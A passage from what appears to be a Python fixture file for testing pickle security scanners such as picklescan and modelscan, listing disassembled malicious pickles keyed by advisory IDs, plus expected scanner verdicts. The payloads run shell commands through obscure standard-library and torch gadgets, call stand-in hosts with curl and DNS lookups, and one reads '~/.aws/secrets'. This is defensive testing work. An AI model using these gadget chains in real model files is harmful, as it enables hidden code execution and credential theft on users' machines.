SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
EMPTY_DICT
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-5qwp-399c-mjwf.pkl': """
PROTO 4
FRAME 65
SHORT_BINUNICODE 'trace'
MEMOIZE
SHORT_BINUNICODE 'Trace.run'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-6vqj-c2q5-j97w.pkl': """
PROTO 4
FRAME 77
SHORT_BINUNICODE 'profile'
MEMOIZE
SHORT_BINUNICODE 'Profile.runctx'
MEMOIZE
STACK_GLOBAL
MEMOIZE
MARK
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
EMPTY_DICT
MEMOIZE
EMPTY_DICT
MEMOIZE
TUPLE
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-6w4w-5w54-rjvr.pkl': """
PROTO 4
FRAME 94
SHORT_BINUNICODE 'idlelib.autocomplete'
MEMOIZE
SHORT_BINUNICODE 'AutoComplete.get_entity'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-7cq8-mj8x-j263.pkl': """
PROTO 4
FRAME 103
SHORT_BINUNICODE 'idlelib.autocomplete'
MEMOIZE
SHORT_BINUNICODE 'AutoComplete.fetch_completions'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
BININT1 0
TUPLE3
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-7wx9-6375-f5wh.pkl': """
PROTO 4
FRAME 59
SHORT_BINUNICODE 'profile'
MEMOIZE
SHORT_BINUNICODE 'run'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-84r2-jw7c-4r5q.pkl': """
PROTO 4
FRAME 87
SHORT_BINUNICODE 'operator'
MEMOIZE
SHORT_BINUNICODE 'methodcaller'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'system'
MEMOIZE
SHORT_BINUNICODE 'echo pwned'
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
SHORT_BINUNICODE 'pydoc'
MEMOIZE
SHORT_BINUNICODE 'locate'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'os'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-86cj-95qr-2p4f.pkl': """
PROTO 4
FRAME 87
SHORT_BINUNICODE 'torch._dynamo.guards'
MEMOIZE
SHORT_BINUNICODE 'GuardBuilder.get'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-8r4j-24qv-fmq9.pkl': """
PROTO 4
FRAME 83
SHORT_BINUNICODE 'idlelib.calltip'
MEMOIZE
SHORT_BINUNICODE 'Calltip.fetch_tip'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-955r-x9j8-7rhh.pkl': """
GLOBAL 'builtins __import__'
MARK
UNICODE 'os'
TUPLE
REDUCE
PUT 0
POP
GLOBAL '_operator methodcaller'
MARK
UNICODE 'system'
UNICODE 'echo \"pwned by _operator.methodcaller\"'
TUPLE
REDUCE
MARK
GET 0
TUPLE
REDUCE
STOP
""",
    'data2/GHSA-9w88-8rmg-7g2p.pkl': """
PROTO 4
FRAME 65
SHORT_BINUNICODE 'cProfile'
MEMOIZE
SHORT_BINUNICODE 'runctx'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
NONE
NONE
TUPLE3
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-9xph-j2h6-g47v.pkl': """
PROTO 4
FRAME 74
SHORT_BINUNICODE 'idlelib.calltip'
MEMOIZE
SHORT_BINUNICODE 'get_entity'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-cj3c-v495-4xqh.pkl': """
PROTO 4
FRAME 85
SHORT_BINUNICODE 'code'
MEMOIZE
SHORT_BINUNICODE 'InteractiveInterpreter.runcode'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-f4x7-rfwp-v3xw.pkl': """
PROTO 4
FRAME 125
SHORT_BINUNICODE 'torch.fx.experimental.symbolic_shapes'
MEMOIZE
SHORT_BINUNICODE 'ShapeEnv.evaluate_guards_expression'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
EMPTY_LIST
MEMOIZE
TUPLE3
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-f54q-57x4-jg88.pkl': """
PROTO 4
FRAME 52
SHORT_BINUNICODE 'lib2to3.pgen2.grammar'
MEMOIZE
SHORT_BINUNICODE 'Grammar.loads'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINBYTES b''
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-f745-w6jp-hpxx.pkl': """
PROTO 4
FRAME 75
SHORT_BINUNICODE 'torch.utils.collect_env'
MEMOIZE
SHORT_BINUNICODE 'run'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-fqq6-7vqf-w3fg.pkl': """
PROTO 4
FRAME 69
SHORT_BINUNICODE 'doctest'
MEMOIZE
SHORT_BINUNICODE 'debug_script'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
NEWTRUE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-g344-hcph-8vgg.pkl': """
PROTO 4
FRAME 73
SHORT_BINUNICODE 'trace'
MEMOIZE
SHORT_BINUNICODE 'Trace.runctx'
MEMOIZE
STACK_GLOBAL
MEMOIZE
MARK
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
EMPTY_DICT
MEMOIZE
EMPTY_DICT
MEMOIZE
TUPLE
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-g38g-8gr9-h9xp-aix-support.pkl': """
PROTO 4
FRAME 46
SHORT_BINUNICODE '_aix_support'
MEMOIZE
SHORT_BINUNICODE '_read_cmd_output'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'id'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-g38g-8gr9-h9xp-imaplib.pkl': """
PROTO 4
FRAME 37
SHORT_BINUNICODE 'imaplib'
MEMOIZE
SHORT_BINUNICODE 'IMAP4_stream'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'id'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-g38g-8gr9-h9xp-osx-support.pkl': """
PROTO 4
FRAME 42
SHORT_BINUNICODE '_osx_support'
MEMOIZE
SHORT_BINUNICODE '_read_output'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'id'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-g38g-8gr9-h9xp-pyrepl-pager.pkl': """
PROTO 4
SHORT_BINUNICODE '_pyrepl.pager'
SHORT_BINUNICODE 'pipe_pager'
STACK_GLOBAL
SHORT_BINUNICODE 'text'
SHORT_BINUNICODE 'id'
TUPLE2
REDUCE
STOP
""",
    'data2/GHSA-g38g-8gr9-h9xp-test.pkl': """
PROTO 4
SHORT_BINUNICODE 'test.support.script_helper'
SHORT_BINUNICODE 'assert_python_ok'
STACK_GLOBAL
SHORT_BINUNICODE '-c pass'
TUPLE1
REDUCE
STOP
""",
    'data2/GHSA-g38g-8gr9-h9xp-uuid.pkl': """
PROTO 4
FRAME 41
SHORT_BINUNICODE 'uuid'
MEMOIZE
SHORT_BINUNICODE '_get_command_stdout'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'id'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-h3qp-7fh3-f8h4.pkl': """
PROTO 4
FRAME 78
SHORT_BINUNICODE 'torch.utils.data.datapipes.utils.decoder'
MEMOIZE
SHORT_BINUNICODE 'basichandlers'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'pickle'
MEMOIZE
SHORT_BINBYTES b''
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-j343-8v2j-ff7w.pkl': """
PROTO 4
FRAME 96
SHORT_BINUNICODE 'idlelib.pyshell'
MEMOIZE
SHORT_BINUNICODE 'ModifiedInterpreter.runcommand'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-jgw4-cr84-mqxg.bin': """
PROTO 4
FRAME 81
SHORT_BINUNICODE 'asyncio.unix_events'
MEMOIZE
SHORT_BINUNICODE '_UnixSubprocessTransport._start'
MEMOIZE
STACK_GLOBAL
MEMOIZE
MARK
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE 'whoami'
MEMOIZE
NEWTRUE
NONE
NONE
NONE
BININT1 0
TUPLE
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-jhph-76pp-mggw.pkl': """
PROTO 4
FRAME 98
SHORT_BINUNICODE 'torch.utils.collect_env'
MEMOIZE
SHORT_BINUNICODE 'run_and_read_all'
MEMOIZE
STACK_GLOBAL
MEMOIZE
BINGET 0
SHORT_BINUNICODE 'run'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-m273-6v24-x4m4.pkl': """
PROTO 4
FRAME 84
SHORT_BINUNICODE 'distutils.file_util'
MEMOIZE
SHORT_BINUNICODE 'write_file'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'pwned_config.env'
MEMOIZE
EMPTY_LIST
MEMOIZE
SHORT_BINUNICODE 'malicious content'
MEMOIZE
APPEND
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-m869-42cg-3xwr.pkl': """
PROTO 4
FRAME 79
SHORT_BINUNICODE 'idlelib.run'
MEMOIZE
SHORT_BINUNICODE 'Executive.runcode'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-p9w7-82w4-7q8m.pkl': """
PROTO 4
FRAME 99
SHORT_BINUNICODE 'lib2to3.pgen2.pgen'
MEMOIZE
SHORT_BINUNICODE 'ParserGenerator.make_label'
MEMOIZE
STACK_GLOBAL
MEMOIZE
NONE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE '\"\"+__import__(\\'os\\').system(\\'whoami\\')'
MEMOIZE
TUPLE3
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-q77w-mwjj-7mqx.pkl': """
PROTO 4
FRAME 81
SHORT_BINUNICODE 'asyncio.unix_events'
MEMOIZE
SHORT_BINUNICODE '_UnixSubprocessTransport._start'
MEMOIZE
STACK_GLOBAL
MEMOIZE
MARK
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE 'whoami'
MEMOIZE
NEWTRUE
NONE
NONE
NONE
BININT1 0
TUPLE
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-r8g5-cgf2-4m4m.pkl': """
PROTO 4
FRAME 84
SHORT_BINUNICODE 'numpy.f2py.crackfortran'
MEMOIZE
SHORT_BINUNICODE 'getlincoef'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
EMPTY_LIST
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-vqmv-47xg-9wpr.pkl': """
PROTO 4
FRAME 51
SHORT_BINUNICODE 'pty'
MEMOIZE
SHORT_BINUNICODE 'spawn'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_LIST
MEMOIZE
MARK
SHORT_BINUNICODE '/bin/sh'
MEMOIZE
SHORT_BINUNICODE '-c'
MEMOIZE
SHORT_BINUNICODE 'id; exit'
MEMOIZE
APPENDS
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-vr7h-p6mm-wpmh.pkl': """
PROTO 4
FRAME 96
SHORT_BINUNICODE 'torch.jit.unsupported_tensor_ops'
MEMOIZE
SHORT_BINUNICODE 'execWrapper'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
EMPTY_DICT
MEMOIZE
EMPTY_DICT
MEMOIZE
TUPLE3
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-vv6j-3g6g-2pvj.pkl': """
PROTO 4
FRAME 68
SHORT_BINUNICODE 'torch.utils._config_module'
MEMOIZE
SHORT_BINUNICODE 'ConfigModule.load_config'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINBYTES b''
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-vvpj-8cmc-gx39.pkl': """
PROTO 4
FRAME 44
SHORT_BINUNICODE 'pkgutil'
MEMOIZE
SHORT_BINUNICODE 'resolve_name'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'os:system'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-x696-vm39-cp64.pkl': """
PROTO 4
FRAME 69
SHORT_BINUNICODE 'profile'
MEMOIZE
SHORT_BINUNICODE 'Profile.run'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/GHSA-xp4f-hrf8-rxw7.pkl': """
PROTO 4
FRAME 66
SHORT_BINUNICODE 'ensurepip'
MEMOIZE
SHORT_BINUNICODE '_run_pip'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"__import__('os').system('whoami')\"
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/cloudpickle_codeinjection.pkl': """
PROTO 5
FRAME 850
SHORT_BINUNICODE 'cloudpickle.cloudpickle'
MEMOIZE
SHORT_BINUNICODE '_make_function'
MEMOIZE
STACK_GLOBAL
MEMOIZE
MARK
BINGET 0
SHORT_BINUNICODE '_builtin_type'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'CodeType'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
MARK
BININT1 1
BININT1 0
BININT1 0
BININT1 1
BININT1 5
BININT1 19
SHORT_BINBYTES b'\\x95\\x01\\x97\\x00\\x02\\x00t\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x89\\x01d\\x01\\xab\\x02\\x00\\x00\\x00\\x00\\x00\\x00|\\x00\\xab\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01\\x00y\\x00'
MEMOIZE
NONE
SHORT_BINUNICODE 'eval'
MEMOIZE
TUPLE2
MEMOIZE
SHORT_BINUNICODE 'getattr'
MEMOIZE
TUPLE1
MEMOIZE
SHORT_BINUNICODE 'payload'
MEMOIZE
TUPLE1
MEMOIZE
SHORT_BINUNICODE '/workspaces/picklescan/tests/init_data_files.py'
MEMOIZE
SHORT_BINUNICODE '_obfuscated_eval'
MEMOIZE
SHORT_BINUNICODE 'initialize_cloudpickle_exploit_file.<locals>.EvilClass._obfuscated_eval'
MEMOIZE
BININT2 380
SHORT_BINBYTES b'\\xf8\\x80\\x00\\xe0\\x0c%\\x8cG\\x90H\\x98f\\xd3\\x0c%\\xa0g\\xd5\\x0c.'
MEMOIZE
SHORT_BINBYTES b''
MEMOIZE
SHORT_BINUNICODE 'builtins'
MEMOIZE
TUPLE1
MEMOIZE
EMPTY_TUPLE
TUPLE
MEMOIZE
REDUCE
MEMOIZE
EMPTY_DICT
MEMOIZE
MARK
SHORT_BINUNICODE '__package__'
MEMOIZE
NONE
SHORT_BINUNICODE '__name__'
MEMOIZE
SHORT_BINUNICODE '__main__'
MEMOIZE
SHORT_BINUNICODE '__file__'
MEMOIZE
BINGET 15
SETITEMS
NONE
NONE
BINGET 0
SHORT_BINUNICODE '_make_empty_cell'
MEMOIZE
STACK_GLOBAL
MEMOIZE
EMPTY_TUPLE
REDUCE
MEMOIZE
TUPLE1
MEMOIZE
TUPLE
MEMOIZE
REDUCE
MEMOIZE
BINGET 0
SHORT_BINUNICODE '_function_setstate'
MEMOIZE
STACK_GLOBAL
MEMOIZE
BINGET 34
EMPTY_DICT
MEMOIZE
EMPTY_DICT
MEMOIZE
MARK
BINGET 26
SHORT_BINUNICODE '_obfuscated_eval'
MEMOIZE
SHORT_BINUNICODE '__qualname__'
MEMOIZE
SHORT_BINUNICODE 'initialize_cloudpickle_exploit_file.<locals>.EvilClass._obfuscated_eval'
MEMOIZE
SHORT_BINUNICODE '__annotations__'
MEMOIZE
EMPTY_DICT
MEMOIZE
SHORT_BINUNICODE '__kwdefaults__'
MEMOIZE
NONE
SHORT_BINUNICODE '__defaults__'
MEMOIZE
NONE
SHORT_BINUNICODE '__module__'
MEMOIZE
BINGET 27
SHORT_BINUNICODE '__doc__'
MEMOIZE
NONE
SHORT_BINUNICODE '__closure__'
MEMOIZE
BINGET 0
SHORT_BINUNICODE '_make_cell'
MEMOIZE
STACK_GLOBAL
MEMOIZE
BINGET 0
SHORT_BINUNICODE 'subimport'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'builtins'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
TUPLE1
MEMOIZE
SHORT_BINUNICODE '_cloudpickle_submodules'
MEMOIZE
EMPTY_LIST
MEMOIZE
SHORT_BINUNICODE '__globals__'
MEMOIZE
EMPTY_DICT
MEMOIZE
SETITEMS
TUPLE2
MEMOIZE
TUPLE2
REDUCE
POP
SHORT_BINUNICODE '__import__(\\'os\\').system(\\'echo \"successful attack\"\\')'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/io_FileIO.pkl': """
PROTO 4
FRAME 39
SHORT_BINUNICODE '_io'
MEMOIZE
SHORT_BINUNICODE 'FileIO'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE '/etc/hosts'
MEMOIZE
SHORT_BINUNICODE 'r'
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/keyerror-exploit.pkl': """
PROTO 4
GLOBAL 'os system'
UNICODE 'echo \"pwned by memo keyerror\"'
TUPLE1
REDUCE
POP
SHORT_BINUNICODE 'os'
MEMOIZE
BINGET 3
BINGET 0
STACK_GLOBAL
BININT1 66
STOP
""",
    'data2/logging_FileHandler.pkl': """
PROTO 4
FRAME 42
SHORT_BINUNICODE 'logging'
MEMOIZE
SHORT_BINUNICODE 'FileHandler'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'evil.log'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/malicious21.pkl': """
PROTO 4
FRAME 81
SHORT_BINUNICODE 'timeit'
MEMOIZE
BINGET 0
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE ''
MEMOIZE
SHORT_BINUNICODE 'import os; os.system(\"curl https://webhook.invalid/1234\")'
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/malicious22.pkl': """
PROTO 4
FRAME 107
SHORT_BINUNICODE 'numpy.testing._private.utils'
MEMOIZE
SHORT_BINUNICODE 'runstring'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE \"import os; os.system('curl https://example.invalid')\"
MEMOIZE
EMPTY_DICT
MEMOIZE
TUPLE2
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
    'data2/malicious23.pkl': """
STRING 'os'
STRING 'system'
STACK_GLOBAL
STRING 'ls'
TUPLE1
REDUCE
STOP
""",
    'data2/type-confusion-exploit.pkl': """
PROTO 4
GLOBAL 'os system'
UNICODE 'echo \"type-confusion-exploit\"'
TUPLE1
REDUCE
POP
BININT 42
MEMOIZE
SHORT_BINUNICODE 'os'
MEMOIZE
BINGET 0
BINGET 1
STACK_GLOBAL
BININT1 66
STOP
""",
    'data2/types_CodeType.pkl': """
PROTO 4
SHORT_BINUNICODE 'types'
MEMOIZE
SHORT_BINUNICODE 'CodeType'
MEMOIZE
STACK_GLOBAL
MEMOIZE
FRAME 151
MARK
BININT1 0
BININT1 0
BININT1 0
BININT1 0
BININT1 3
BININT1 0
SHORT_BINBYTES b'\\x97\\x00\\x02\\x00e\\x00d\\x00\\xab\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01\\x00y\\x01'
MEMOIZE
SHORT_BINUNICODE 'CodeType serialization succeeded'
MEMOIZE
NONE
TUPLE2
MEMOIZE
SHORT_BINUNICODE 'print'
MEMOIZE
TUPLE1
MEMOIZE
EMPTY_TUPLE
SHORT_BINUNICODE '<dynamic_code>'
MEMOIZE
SHORT_BINUNICODE '<module>'
MEMOIZE
SHORT_BINUNICODE '<module>'
MEMOIZE
BININT1 1
SHORT_BINBYTES b'\\xf0\\x03\\x01\\x01\\x01\\xd9\\x00\\x05\\xd0\\x06(\\xd5\\x00)'
MEMOIZE
SHORT_BINBYTES b''
MEMOIZE
EMPTY_TUPLE
EMPTY_TUPLE
TUPLE
MEMOIZE
REDUCE
STOP
""",
    'data2/urllib_request_urlopen.pkl': """
PROTO 4
FRAME 60
SHORT_BINUNICODE 'urllib.request'
MEMOIZE
SHORT_BINUNICODE 'urlopen'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'https://example.invalid'
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
STOP
""",
}

# The pickle inside picklescan's tests/data2/dns_exfiltration.npy (after the header).
DNS_EXFILTRATION_PICKLE = """
PROTO 4
FRAME 201
SHORT_BINUNICODE 'numpy._core.multiarray'
MEMOIZE
SHORT_BINUNICODE '_reconstruct'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'numpy'
MEMOIZE
SHORT_BINUNICODE 'ndarray'
MEMOIZE
STACK_GLOBAL
MEMOIZE
BININT1 0
TUPLE1
MEMOIZE
SHORT_BINBYTES b'b'
MEMOIZE
TUPLE3
MEMOIZE
REDUCE
MEMOIZE
MARK
BININT1 1
BININT1 1
TUPLE1
MEMOIZE
BINGET 3
SHORT_BINUNICODE 'dtype'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE 'O8'
MEMOIZE
NEWFALSE
NEWTRUE
TUPLE3
MEMOIZE
REDUCE
MEMOIZE
MARK
BININT1 3
SHORT_BINUNICODE '|'
MEMOIZE
NONE
NONE
NONE
BININT -1
BININT -1
BININT1 63
TUPLE
MEMOIZE
BUILD
NEWFALSE
EMPTY_LIST
MEMOIZE
SHORT_BINUNICODE 'ssl'
MEMOIZE
SHORT_BINUNICODE 'get_server_certificate'
MEMOIZE
STACK_GLOBAL
MEMOIZE
SHORT_BINUNICODE '.dns-logger.invalid'
MEMOIZE
BININT2 443
TUPLE2
MEMOIZE
TUPLE1
MEMOIZE
REDUCE
MEMOIZE
APPEND
TUPLE
MEMOIZE
BUILD
STOP
"""

# modelscan's tests/data/unsafe_zip_pytorch.pt, its data.pkl record.
MS_UNSAFE_ZIP_PYTORCH_PKL = """
PROTO 2
GLOBAL 'posix system'
BINPUT 0
BINUNICODE 'cat ~/.aws/secrets\\n            '
BINPUT 1
TUPLE1
BINPUT 2
REDUCE
BINPUT 3
GLOBAL 'collections OrderedDict'
BINPUT 4
EMPTY_TUPLE
REDUCE
BINPUT 5
EMPTY_DICT
BINPUT 6
BINUNICODE '_metadata'
BINPUT 7
BINGET 4
EMPTY_TUPLE
REDUCE
BINPUT 8
BINUNICODE ''
BINPUT 9
EMPTY_DICT
BINPUT 10
BINUNICODE 'version'
BINPUT 11
BININT1 1
SETITEM
SETITEM
SETITEM
BUILD
STOP
"""


# ---- picklescan ---------------------------------------------------------------
# What picklescan's tests/test_scanner.py expects for each file ("Dangerous:"
# globals make it an infected file); files named only in the directory scan
# test say so.
PS_SAYS = {
    "data/benign0_v0.pkl": "no globals, safe (benign list pickled at protocol 0)",
    "data/benign0_v3.pkl": "no globals, safe (test_scan_file_path)",
    "data/benign0_v4.pkl": "no globals, safe",
    "data/broken_model.pkl": "Dangerous builtins.exec, with a parse error (test_scan_directory_path)",
    "data/malicious-invalid-bytes.pkl": "Dangerous os.system, scan error for the trailing bytes (test_invalid_bytes_err)",
    "data/malicious0.pkl": "Dangerous __builtin__.compile/apply/getattr/eval, Suspicious globals/dict",
    "data/malicious1_v0.pkl": "Dangerous __builtin__.eval",
    "data/malicious1_v3.pkl": "Dangerous builtins.eval",
    "data/malicious1_v4.pkl": "Dangerous builtins.eval",
    "data/malicious2_v0.pkl": "Dangerous posix.system",
    "data/malicious2_v3.pkl": "Dangerous posix.system",
    "data/malicious2_v4.pkl": "Dangerous posix.system",
    "data/malicious3.pkl": "Dangerous httplib.HTTPSConnection",
    "data/malicious4.pickle": "Dangerous requests.api.get",
    "data/malicious5.pickle": "Dangerous aiohttp.client.ClientSession",
    "data/malicious6.pkl": "Dangerous requests.api.get (second pickle of the file)",
    "data/malicious7.pkl": "Dangerous socket.create_connection",
    "data/malicious8.pkl": "Dangerous subprocess.run",
    "data/malicious9.pkl": "Dangerous sys.exit",
    "data/malicious10.pkl": "Dangerous __builtin__.exec (INST opcode)",
    "data/malicious11.pkl": "Dangerous os.system (test_scan_directory_path)",
    "data/malicious12.pkl": "Dangerous operator.attrgetter, Suspicious builtins.__import__ (directory test)",
    "data/malicious13a.pkl": "Dangerous pickle.loads, Suspicious _codecs.encode (directory test)",
    "data/malicious13b.pkl": "Dangerous _pickle.loads (directory test)",
    "data/malicious14.pkl": "Dangerous runpy._run_code",
    "data/malicious15a.pkl": "Dangerous bdb.Bdb, __builtin__.getattr (directory test)",
    "data/malicious15b.pkl": "Dangerous bdb.Bdb, bdb.Bdb.run (directory test)",
    "data/malicious16.pkl": "Dangerous pip.main (directory test)",
    "data/malicious17.pkl": "Dangerous torch._inductor.codecache.compile_file (directory test)",
    "data/malicious18.pkl": "Dangerous pydoc.pipepager (directory test)",
    "data/malicious19.pkl": "Dangerous torch.serialization.load, functools.partial (directory test)",
    "data/malicious20.pkl": "Dangerous venv.create (directory test)",
    "data/sys_module_override_sploit.pkl": "Dangerous _rebuild_tensor.unknown, Suspicious torch._utils._rebuild_tensor, torch._utils (directory test)",
    "data/pytorch_magic_bypass.pt": "Dangerous __builtin__.eval (magic number pickle) and posix.system",
    "data/not_a_pickle.bin": "no globals, no error (test_not_a_pickle_file)",
    "data2/malicious21.pkl": "Dangerous timeit.timeit",
    "data2/malicious22.pkl": "Dangerous numpy.testing._private.utils.runstring",
    "data2/malicious23.pkl": "Dangerous os.system (STACK_GLOBAL over STRING operands, GHSA-9gvj-pp9x-gcfr)",
    "data2/keyerror-exploit.pkl": "Dangerous os.system, Dangerous unknown.os (memo KeyError trick)",
